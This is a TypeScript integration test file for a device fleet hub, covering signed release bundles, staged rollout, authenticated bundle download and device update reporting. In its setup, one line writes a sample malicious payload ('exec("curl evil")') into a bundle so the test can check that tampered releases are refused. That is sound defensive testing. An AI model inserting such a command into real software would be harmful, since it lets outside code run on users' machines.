/**
 * Fleet updates on the hub, with a real hub (aedes, SQLite, HTTP), the real CLI, small signed
 * bundles and devices enrolled through the real enrolment path: adding bundles, staged rollout,
 * the device-authenticated download and the update states devices report.
 */
import { spawnSync } from 'node:child_process';
import { createHash, randomUUID } from 'node:crypto';
import { chownSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import mqtt from 'mqtt';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateReleaseKeys } from '../../common/release/manifest.js';
import { encode, PROTOCOL_VERSION, topic, type Status, type UpdateReport } from '../../protocol/index.js';
import { Releases, rolloutRank } from '../../hub/releases/releases.js';
import { openHubDb } from '../../hub/store/db.js';
import { CLI_PATH } from '../../simulator/processes.js';
import { TestHall } from '../helpers/hall.js';
import { tinyBundle } from '../helpers/releases.js';
import { waitFor } from '../helpers/wait.js';
import { enrolledDevice, metric, run, type Creds } from '../hub/helpers.js';

const keys = generateReleaseKeys();
const other = generateReleaseKeys();
let scratch: string;
let hall: TestHall;
let keyFile: string;
const bundles: Record<string, string> = {};

beforeAll(async () => {
  scratch = mkdtempSync(join(tmpdir(), 'hcp-hub-releases-'));
  keyFile = join(scratch, 'release.pub');
  writeFileSync(keyFile, keys.publicPem);
  bundles.v2 = await tinyBundle('0.2.0', keys.privatePem, join(scratch, 'v2'));
  bundles.v3 = await tinyBundle('0.3.0', keys.privatePem, join(scratch, 'v3'));
  bundles.foreign = await tinyBundle('0.4.0', other.privatePem, join(scratch, 'foreign'));
  // Signed, then one file changed: what an attacker on the way would make.
  const t = mkdtempSync(join(tmpdir(), 'hcp-tamper-'));
  spawnSync('tar', ['-xzf', bundles.v3, '-C', t]);
  writeFileSync(join(t, 'bin', 'haochaping.js'), 'require("child_process").exec("curl evil")\n');
  bundles.tampered = join(scratch, 'tampered.tar.gz');
  spawnSync('tar', ['-czf', bundles.tampered, '-C', t, '.']);
  rmSync(t, { recursive: true, force: true });
  hall = await TestHall.start();
}, 60_000);
afterAll(async () => {
  await hall?.close();
  rmSync(scratch, { recursive: true, force: true });
});

/** The real CLI, run asynchronously: the hub it talks to runs in this process. */
async function cli(args: string[]): Promise<{ status: number | null; stdout: string; stderr: string }> {
  const r = await run(process.execPath, [CLI_PATH, ...args], 60_000);
  return { status: r.code, stdout: r.stdout, stderr: r.stderr };
}
const dataDir = () => join(hall.dir, 'hub');
const sha = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');

describe('hub release add', { timeout: 60_000 }, () => {
  it('refuses a tampered bundle and one signed by another key in one line, exit 1, leaving nothing behind', async () => {
    for (const [file, reason] of [
      [bundles.tampered!, 'hash-mismatch'],
      [bundles.foreign!, 'bad-signature'],
    ] as const) {
      const r = await cli(['hub', 'release', 'add', file, '--data', dataDir(), '--release-key', keyFile]);
      expect(r.status).toBe(1);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stderr).toMatch(new RegExp(`^refused \\(${reason}\\): `));
    }
    const dir = join(dataDir(), 'releases');
    expect(existsSync(dir) ? readdirSync(dir) : []).toEqual([]);
    expect(hall.hub!.releases.list()).toEqual([]);
  });

  it('keeps a good bundle under the data directory with its hash; the same bundle again changes nothing', async () => {
    const r = await cli(['hub', 'release', 'add', bundles.v2!, '--data', dataDir(), '--release-key', keyFile]);
    expect(r.stderr).toBe('');
    expect(r.stdout).toMatch(/^added: haochaping 0\.2\.0 for /);
    const again = await cli(['hub', 'release', 'add', bundles.v2!, '--data', dataDir(), '--release-key', keyFile]);
    expect(again.stdout).toMatch(/^already here: haochaping 0\.2\.0/);
    const rel = hall.hub!.releases.get('0.2.0')!;
    expect(rel.sha256).toBe(sha(bundles.v2!));
    expect(sha(hall.hub!.releases.fileOf(rel))).toBe(rel.sha256);
    expect(readdirSync(join(dataDir(), 'releases'))).toEqual([rel.file]);
  });

  it('refuses another bundle under a version it has already', async () => {
    const twin = await tinyBundle('0.2.0', keys.privatePem, join(scratch, 'twin'), (root) => writeFileSync(join(root, 'extra.txt'), 'x'));
    const r = await cli(['hub', 'release', 'add', twin, '--data', dataDir(), '--release-key', keyFile]);
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^refused \(exists\): release 0\.2\.0 is here already as another bundle/);
  });
});

describe('a bundle added by root', () => {
  it("belongs to the data directory's owner (the hub's user), or the hub could not serve it", async () => {
    const data = mkdtempSync(join(scratch, 'owned-'));
    if (process.getuid?.() === 0) chownSync(data, 65534, 65534);
    const db = openHubDb(join(data, 'hub.db'));
    try {
      const { release } = await new Releases(db, data).add(bundles.v2!, keys.publicPem);
      const owner = statSync(data).uid;
      expect(statSync(join(data, 'releases')).uid).toBe(owner);
      expect(statSync(join(data, 'releases', release.file)).uid).toBe(owner);
    } finally {
      db.close();
    }
  });
});

describe('hub release add at the same time', { timeout: 60_000 }, () => {
  it('the same bundle twice at once: one row, one file; two bundles under one version at once: one wins, the other is refused, the kept file is the winner', async () => {
    const releases = hall.hub!.releases;
    const a = await tinyBundle('0.5.0', keys.privatePem, join(scratch, 'race-a'));
    const both = await Promise.all([releases.add(a, keys.publicPem), releases.add(a, keys.publicPem)]);
    expect(both.map((x) => x.added).sort()).toEqual([false, true]);
    expect(sha(releases.fileOf(releases.get('0.5.0')!))).toBe(sha(a));

    const b = await tinyBundle('0.6.0', keys.privatePem, join(scratch, 'race-b'));
    const c = await tinyBundle('0.6.0', keys.privatePem, join(scratch, 'race-c'), (root) => writeFileSync(join(root, 'other.txt'), 'c'));
    const out = await Promise.allSettled([releases.add(b, keys.publicPem), releases.add(c, keys.publicPem)]);
    expect(out.map((o) => o.status).sort()).toEqual(['fulfilled', 'rejected']);
    expect((out.find((o) => o.status === 'rejected') as PromiseRejectedResult).reason).toMatchObject({ code: 'exists' });
    const row = releases.get('0.6.0')!;
    expect(sha(releases.fileOf(row))).toBe(row.sha256);
    expect(readdirSync(join(dataDir(), 'releases')).filter((n) => n.includes('0.6.0'))).toEqual([row.file]);
  });
});

describe('staged rollout', { timeout: 120_000 }, () => {
  const devices: Creds[] = [];
  beforeAll(async () => {
    for (let i = 0; i < 20; i++) devices.push(await enrolledDevice(hall, String(100 + i)));
    await hall.hub!.releases.add(bundles.v3!, keys.publicPem);
  }, 120_000);

  const targets = async () => {
    const out = new Map<string, string | undefined>();
    for (const d of devices) {
      const r = await hall.api<{ config: { release?: { version: string; path: string; sha256: string; size: number } } }>(
        `/api/devices/${d.id}`,
      );
      out.set(d.id, r.config.release?.version);
    }
    return out;
  };

  it('10 % of 20 devices are 2 devices, always the same ones (first by a hash of their id); a higher percent only adds; then all', async () => {
    const cliRollout = (extra: string[]) => cli(['hub', 'release', 'rollout', '0.3.0', '--data', dataDir(), '--json', ...extra]);
    const r10 = await cliRollout(['--percent', '10']);
    expect(r10.stderr).toBe('');
    const first = JSON.parse(r10.stdout) as { newlyTargeted: string[]; targeted: number; devices: number };
    expect(first.targeted).toBe(2);
    const expected = devices
      .map((d) => d.id)
      .sort((a, b) => (rolloutRank(a) < rolloutRank(b) ? -1 : 1))
      .slice(0, 2);
    expect([...first.newlyTargeted].sort()).toEqual([...expected].sort());
    const t10 = await targets();
    expect(
      [...t10]
        .filter(([, v]) => v === '0.3.0')
        .map(([id]) => id)
        .sort(),
    ).toEqual([...expected].sort());

    // The same percent again changes nothing (no config pushed again).
    expect((JSON.parse((await cliRollout(['--percent', '10'])).stdout) as { newlyTargeted: string[] }).newlyTargeted).toEqual([]);

    const r50 = JSON.parse((await cliRollout(['--percent', '50'])).stdout) as { newlyTargeted: string[]; targeted: number };
    expect(r50.targeted).toBe(10);
    expect(r50.newlyTargeted.some((id) => expected.includes(id))).toBe(false);
    const t50 = await targets();
    for (const id of expected) expect(t50.get(id)).toBe('0.3.0');

    // Rollouts at the same time: each device is newly targeted once, its config version bumped once.
    const versions = new Map(devices.map((d) => [d.id, hall.hub!.registry.get(d.id)!.config_version]));
    const racing = await Promise.all(
      [60, 60, 60].map((p) => hall.api<{ newlyTargeted: string[] }>('/api/releases/0.3.0/rollout', { percent: p })),
    );
    const newly = racing.flatMap((r) => r.newlyTargeted);
    expect(newly).toHaveLength(2);
    expect(new Set(newly).size).toBe(2);
    for (const id of newly) expect(hall.hub!.registry.get(id)!.config_version).toBe(versions.get(id)! + 1);

    const all = JSON.parse((await cliRollout(['--all'])).stdout) as { targeted: number; newlyTargeted: string[] };
    expect(all.targeted).toBe(20);
    expect(all.newlyTargeted).toHaveLength(8);
    expect([...(await targets()).values()].every((v) => v === '0.3.0')).toBe(true);
  });

  it('a device connected over MQTT receives the target in its retained config, with the bundle path, hash and size', async () => {
    const d = devices[0]!;
    const client = await mqtt.connectAsync(`mqtt://127.0.0.1:${hall.ports.mqtt}`, {
      clientId: d.id,
      username: d.id,
      password: d.password,
      reconnectPeriod: 0,
    });
    try {
      const got = new Promise<{ release?: unknown }>((res) =>
        client.on('message', (_t, p) => res(JSON.parse(p.toString()) as { release?: unknown })),
      );
      await client.subscribeAsync(topic(d.hall, d.id, 'config'), { qos: 1 });
      const rel = hall.hub!.releases.get('0.3.0')!;
      expect((await got).release).toEqual({ version: '0.3.0', sha256: rel.sha256, size: rel.size, path: '/api/releases/0.3.0/bundle' });
    } finally {
      await client.endAsync();
    }
  });

  it('refuses a rollout that names no release, or both a percent and devices, with a clear message', async () => {
    const none = await cli(['hub', 'release', 'rollout', '9.9.9', '--data', dataDir(), '--all']);
    expect(none.status).toBe(3);
    expect(none.stderr).toMatch(/no release 9\.9\.9 on this hub/);
    const both = await cli(['hub', 'release', 'rollout', '0.3.0', '--data', dataDir(), '--all', '--percent', '5']);
    expect(both.status).toBe(2);
    expect(both.stderr.trim()).toBe('give exactly one of --devices, --percent or --all');
  });

  describe('the bundle download', () => {
    const url = () => `${hall.hubUrl}/api/releases/0.3.0/bundle`;
    const basic = (user: string, password: string) => ({ authorization: `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}` });

    it('is served only to a device with its own secret, and only the bundle it is targeted for; Range resumes', async () => {
      const d = devices[1]!;
      expect((await fetch(url())).status).toBe(401);
      expect((await fetch(url(), { headers: basic(d.id, 'wrong-secret') })).status).toBe(401);
      // An API token is not a device.
      expect((await fetch(url(), { headers: { authorization: `Bearer ${hall.adminToken}` } })).status).toBe(401);
      // Targeted for 0.3.0, not for 0.2.0.
      const other = await fetch(`${hall.hubUrl}/api/releases/0.2.0/bundle`, { headers: basic(d.id, d.password) });
      expect(other.status).toBe(403);
      expect(((await other.json()) as { message: string }).message).toMatch(/not targeted for release 0\.2\.0/);

      const rel = hall.hub!.releases.get('0.3.0')!;
      const full = await fetch(url(), { headers: basic(d.id, d.password) });
      expect(full.status).toBe(200);
      const body = Buffer.from(await full.arrayBuffer());
      expect(createHash('sha256').update(body).digest('hex')).toBe(rel.sha256);

      const tail = await fetch(url(), { headers: { ...basic(d.id, d.password), range: 'bytes=100-' } });
      expect(tail.status).toBe(206);
      expect(tail.headers.get('content-range')).toBe(`bytes 100-${rel.size - 1}/${rel.size}`);
      expect(Buffer.from(await tail.arrayBuffer()).equals(body.subarray(100))).toBe(true);
    });

    it('a revoked device is refused', async () => {
      const d = devices[19]!;
      await hall.api(`/api/devices/${d.id}/revoke`, {});
      expect((await fetch(url(), { headers: basic(d.id, d.password) })).status).toBe(401);
    });
  });

  describe('update states', () => {
    const status = (update?: UpdateReport, state: 'online' | 'offline' = 'online'): Buffer =>
      encode('status', {
        v: PROTOCOL_VERSION,
        state,
        firmware: 'haochaping-device/0.1.0',
        bootId: randomUUID(),
        uptimeS: 1,
        clockSynced: true,
        at: Date.now(),
        outbox: { depth: 0, oldestAgeS: null, capacity: 100, lastSeq: 0 },
        counters: {},
        faults: [],
        ...(update ? { update } : {}),
      } satisfies Status);

    it('what a device reports shows in GET /api/devices/:id, /api/releases, /metrics and the wall tile; a stale last will does not overwrite it', async () => {
      const d = devices[2]!;
      const client = await mqtt.connectAsync(`mqtt://127.0.0.1:${hall.ports.mqtt}`, {
        clientId: d.id,
        username: d.id,
        password: d.password,
        reconnectPeriod: 0,
      });
      try {
        const t = topic(d.hall, d.id, 'status');
        await client.publishAsync(t, status({ state: 'downloading', version: '0.3.0' }), { qos: 1, retain: true });
        await client.publishAsync(t, status({ state: 'rolled-back', version: '0.3.0', reason: 'not healthy by its deadline' }), {
          qos: 1,
          retain: true,
        });
        await waitFor(
          async () =>
            (await hall.api<{ release: { update: { state: string } | null } }>(`/api/devices/${d.id}`)).release.update?.state ===
            'rolled-back',
          'the rolled-back state',
        );
        // A last will was made at connect time: it may carry an older state.
        await client.publishAsync(t, status({ state: 'downloading', version: '0.3.0' }, 'offline'), { qos: 1, retain: true });
        await waitFor(() => hall.hub!.status.health(d.id).reportedState === 'offline', 'the offline status');
      } finally {
        await client.endAsync();
      }
      const one = await hall.api<{ release: { target: string; update: { state: string; version: string; reason: string } } }>(
        `/api/devices/${d.id}`,
      );
      expect(one.release).toMatchObject({
        target: '0.3.0',
        update: { state: 'rolled-back', version: '0.3.0', reason: 'not healthy by its deadline' },
      });
      const list = await hall.api<{
        releases: { version: string; targeted: number }[];
        devices: { id: string; running: string; update: { state: string } | null }[];
      }>('/api/releases');
      // 20 targeted, one of them revoked since: the list counts devices in service.
      expect(list.releases.find((r) => r.version === '0.3.0')?.targeted).toBe(19);
      expect(list.devices.find((x) => x.id === d.id)).toMatchObject({ running: '0.1.0', update: { state: 'rolled-back' } });
      expect(await metric(hall, 'hcp_device_updates', 'version="0.3.0",state="rolled-back"')).toBe(1);
      expect(await metric(hall, 'hcp_devices_running_release', 'version="0.1.0"')).toBeGreaterThanOrEqual(1);
      expect(hall.hub!.web.tile(d.id).update).toMatchObject({ state: 'rolled-back', version: '0.3.0' });
      const text = await cli(['hub', 'release', 'list', '--data', dataDir()]);
      expect(text.stdout).toMatch(/^0\.3\.0 {2}\S+ {2}2 files {2}key [0-9a-f]{16} {2}targeted 19 {2}running 0$/m);
      expect(text.stdout).toContain(`  ${d.id}: runs 0.1.0, target 0.3.0, update 0.3.0 rolled-back (not healthy by its deadline)`);
    });
  });
});
